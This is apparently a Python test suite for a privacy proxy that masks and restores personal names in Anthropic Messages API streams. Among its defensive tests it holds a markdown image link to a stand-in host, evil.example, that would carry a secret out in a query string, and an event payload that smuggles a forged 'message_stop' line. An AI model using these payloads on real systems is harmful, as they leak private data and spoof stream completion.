"""Laws 1, 3, 4, 5, 6 and 8 in Anthropic's Messages."""

from collections.abc import Iterator
from random import Random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from messages_replies import wholes
from replies import MAPPING, Early, Lines, OnlyContent, Restore, Slow, Wrap, copy
from test_closed import REPLY, SECRET, Hide

from pipeline import Channel, Event, PrivetError, TextFilter, UpstreamFailed, Whole, testing
from pipeline.core.catalog import Usage
from pipeline.core.jsonvalue import JsonObject, encode
from pipeline.dialects.anthropic import AnthropicMessages
from pipeline.testing.script import read_script

MESSAGES = AnthropicMessages()
CHAINS: dict[str, list[Any]] = {
    "restore": [Restore()],
    "all": [Restore(), Lines(), Wrap()],
    "slow": [Slow(), Lines()],
    "content": [OnlyContent()],
}
ASK: Any = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": ""}]}
SCHEMA: Any = {"type": "json_schema", "schema": {"type": "object"}}
FORMATS = st.sampled_from([{}, {"output_config": {"format": SCHEMA}}, {"output_format": SCHEMA}])


@pytest.fixture(scope="module", params=CHAINS)
def chain(request: pytest.FixtureRequest) -> Iterator[testing.Started]:
    with testing.started(CHAINS[request.param]) as one:
        yield one


def exchange(plugins: Any, request: Any, reply: Any, **more: Any) -> testing.Result:
    return testing.exchange(plugins, request, reply, dialect=MESSAGES, **more)


@settings(deadline=None, max_examples=60)
@given(whole=wholes(), seeds=st.lists(st.integers(0, 2**32), min_size=1, max_size=3), form=FORMATS)
def test_every_way_of_cutting_gives_the_whole_reply(
    chain: testing.Started, whole: Any, seeds: list[int], form: Any
):
    request = {**ASK, **form}
    uncut = exchange(chain, request, whole, stream=False)
    assert uncut.error is None
    _, events = read_script(MESSAGES, {**request, "stream": True}, whole)
    for seed in seeds:
        cut: Any = testing.recut(MESSAGES, request, events, Random(seed))
        streamed = exchange(chain, request, cut, stream=True)
        assert streamed.done
        assert streamed.whole == uncut.whole
        assert exchange(chain, request, cut, stream=False).whole == uncut.whole


@settings(deadline=None, max_examples=30)
@given(whole=wholes())
def test_a_whole_reply_is_given_as_a_stream_to_a_client_that_streams(
    chain: testing.Started, whole: Any
):
    uncut = exchange(chain, ASK, whole, stream=False)
    split = exchange(chain, ASK, whole, stream=True, streams="never")
    assert split.saw is not None and split.saw["stream"] is False
    assert split.stream and split.done
    assert split.whole == uncut.whole


@settings(deadline=None, max_examples=60)
@given(whole=wholes())
def test_splitting_and_joining_come_back_to_the_same_reply(whole: Any):
    streamed = exchange([], ASK, copy(whole), stream=True, streams="never")
    assert streamed.done
    assert streamed.whole == whole
    assert exchange([], ASK, copy(whole), stream=False, streams="always").whole == whole


def test_the_kit_finds_a_plugin_that_depends_on_cuts():
    with pytest.raises(AssertionError, match="law 1"):
        testing.check_cut_independence(Early(), "say PERSON_1", draws=1, dialect=MESSAGES)


class Quiet(Hide, frozen=True):
    """Restores nothing in a text with a link."""

    def on_text(self, channel: Channel) -> TextFilter:
        return Whole(lambda text: text if "://" in text else text.replace("NAME_1", SECRET))


def test_a_plugin_that_keeps_the_laws_passes_them():
    testing.check_laws(Hide(), f"I am {SECRET}.", REPLY, secret=SECRET, dialect=MESSAGES)
    testing.check_restore_order(
        Quiet(), SECRET, targets=["![x](https://evil.example/?q={})"], dialect=MESSAGES
    )


@pytest.mark.parametrize("how", ["key", "identity", "base64"])
def test_a_plugin_that_leaks_is_found(how: str):
    with pytest.raises(AssertionError, match="law 4"):
        testing.check_no_leak(Hide(how=how), SECRET, dialect=MESSAGES)


def events(*said: Any) -> list[Any]:
    start = {"type": "message_start", "message": {"id": "m", "type": "message", "content": []}}
    return [start, *said]


def block(index: int, kind: str, **more: Any) -> Any:
    return {"type": "content_block_start", "index": index, "content_block": {"type": kind, **more}}


def delta(index: int, kind: str, **more: Any) -> Any:
    return {"type": "content_block_delta", "index": index, "delta": {"type": kind, **more}}


def stop(index: int) -> Any:
    return {"type": "content_block_stop", "index": index}


END: Any = {
    "type": "message_delta",
    "delta": {"stop_reason": "end_turn", "stop_sequence": None},
    "usage": {"output_tokens": 2},
}


def raw(said: list[Any]) -> list[Event]:
    """The events as they are, without the end that the kit would add."""
    return [Event(encode(one), one["type"]) for one in said]


def stream(said: Any, plugins: Any, request: Any = "") -> list[Any]:
    result = exchange(plugins, request, said, stream=True)
    assert result.error is None and result.done
    return [frame.data for frame in result.frames()]


ANY = st.recursive(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=5)
    | st.integers(-(2**63), 2**64 - 1)
    | st.booleans()
    | st.none(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
    max_leaves=6,
)


@settings(deadline=None, max_examples=40)
@given(one=ANY, other=ANY)
def test_unknown_members_pass_both_ways_event_for_event(one: Any, other: Any):
    request = {**testing.sample_request("é", MESSAGES), "unknown": one}
    said = events(
        {"type": "ping", "unknown": other},
        block(0, "text", text="é", unknown=one),
        {**delta(0, "text_delta", text="x"), "unknown": one},
        delta(0, "unknown_delta", unknown=other),
        stop(0),
        block(1, "tool_use", id="t", name="n", input={"given": [other]}),
        {**stop(1), "unknown": other},
        {"type": "unknown", "more": other},
        {**END, "usage": {"output_tokens": 2, "unknown": one}},
        {"type": "message_stop", "unknown": other},
    )
    testing.check_lossless(MESSAGES, request, said)


def test_the_end_of_a_block_waits_for_held_text():
    said = events(
        block(0, "text", text=""),
        delta(0, "text_delta", text="hi PERSON"),
        {"type": "ping"},
        delta(0, "text_delta", text="_1"),
        stop(0),
        END,
    )
    got = stream(said, Restore())
    assert got == [
        *said[:2],
        delta(0, "text_delta", text="hi "),
        {"type": "ping"},
        delta(0, "text_delta", text=MAPPING["PERSON_1"]),
        *said[-2:],
        {"type": "message_stop"},
    ]


def test_a_tools_input_is_json_in_pieces():
    said = events(
        block(0, "tool_use", id="t", name="search", input={}),
        delta(0, "input_json_delta", partial_json=""),
        delta(0, "input_json_delta", partial_json='{"a":"PERS'),
        delta(0, "input_json_delta", partial_json='ON_1"}'),
        stop(0),
        END,
    )
    result = exchange(Restore(), "", said, stream=True)
    whole: Any = result.whole
    assert whole["content"][0]["input"] == {"a": MAPPING["PERSON_1"]}
    assert [one.tool for one in result.texts] == ["search"]


def test_input_that_comes_at_once_passes_the_filters_too():
    given_ = {"PERSON_1": ["PERSON_12", 1.5]}
    said = events(block(0, "tool_use", id="t", name="search", input=given_), stop(0), END)
    whole: Any = exchange(Restore(), "", said, stream=True).whole
    assert whole["content"][0]["input"] == {MAPPING["PERSON_1"]: ["PERSON_1", 1.5]}


def test_a_signature_and_encrypted_content_stay_as_they_are():
    said = events(
        block(0, "thinking", thinking="", signature=""),
        delta(0, "thinking_delta", thinking="PERSON_1"),
        delta(0, "signature_delta", signature="PERSON_1"),
        stop(0),
        block(1, "redacted_thinking", data="PERSON_1"),
        stop(1),
        END,
    )
    whole: Any = exchange(Restore(), "", said, stream=True).whole
    thought, hidden = whole["content"]
    assert thought == {
        "type": "thinking",
        "thinking": MAPPING["PERSON_1"],
        "signature": "PERSON_1",
    }
    assert hidden["data"] == "PERSON_1"


def test_a_stop_sequence_that_was_hidden_is_restored():
    end = {**END, "delta": {"stop_reason": "stop_sequence", "stop_sequence": "PERSON_12"}}
    got = stream(events(end), Restore())
    assert got[1]["delta"]["stop_sequence"] == "PERSON_1"


def test_the_end_that_a_server_forgot_is_given():
    result = exchange([], "", raw(events(END)), stream=True)
    assert result.raw.endswith(b'event: message_stop\ndata: {"type":"message_stop"}\n\n')


def test_an_error_in_the_middle_ends_the_stream():
    error = {"type": "error", "error": {"type": "overloaded_error", "message": "NAME_1 failed"}}
    said = events(block(0, "text", text="Hello NAME"), error, END)
    result = exchange(Hide(), "", raw(said), stream=True)
    assert [frame.end for frame in result.frames()] == ["", "", "error"]
    assert result.text == "Hello "
    assert isinstance(result.error, UpstreamFailed)
    assert b"message_stop" not in result.raw


def test_an_unnamed_event_cannot_pass_for_another():
    strange = Event(b'{"type":"x\\nevent: message_stop\\ndata: {}"}')
    start = Event(b'{"type":"message_start","message":{"content":[]}}')
    result = exchange([], "", [start, strange], stream=True)
    assert not result.done and result.error is not None
    assert b"\nevent: message_stop" not in result.raw


class SaysStop(AnthropicMessages):
    """Breaks law 8: ends every stream as if all were well."""

    def error_event(self, error: PrivetError) -> bytes:
        return b'event: message_stop\ndata: {"type":"message_stop"}\n\n'


class Lossy(AnthropicMessages):
    """Loses a member of the request."""

    def outgoing(self, body: JsonObject, model: str, *, stream: bool) -> JsonObject:
        out = super().outgoing(body, model, stream=stream)
        out.pop("metadata", None)
        return out


def test_a_dialect_that_breaks_a_law_is_found():
    testing.check_broken_stream(Hide(), REPLY, dialect=MESSAGES)
    with pytest.raises(AssertionError, match=r"law 8.*looks complete"):
        testing.check_broken_stream(Hide(), REPLY, dialect=SaysStop())
    with pytest.raises(AssertionError, match="law 3"):
        request = testing.sample_request("x", MESSAGES)
        testing.check_lossless(Lossy(), request, events(END))


def test_a_broken_input_has_no_place_in_a_whole_reply():
    said = events(
        block(0, "tool_use", id="t", name="search", input={}),
        delta(0, "input_json_delta", partial_json='{"a": "b'),
        stop(0),
        END,
    )
    assert exchange([], "", raw(said), stream=True).error is None
    whole = exchange([], "", raw(said), stream=False, streams="always")
    assert isinstance(whole.error, UpstreamFailed)


def test_usage_counts_what_a_cache_read_and_wrote():
    reader = MESSAGES.reader(ASK)
    usage = b'"usage":{"input_tokens":3,"cache_read_input_tokens":4,"output_tokens":1}'
    reader.read(Event(b'{"type":"message_start","message":{"content":[],%s}}' % usage))
    assert reader.usage is None, "the reply is not complete"
    reader.read(Event(b'{"type":"message_delta","delta":{},"usage":{"output_tokens":9}}'))
    assert reader.usage == Usage(7, 9)
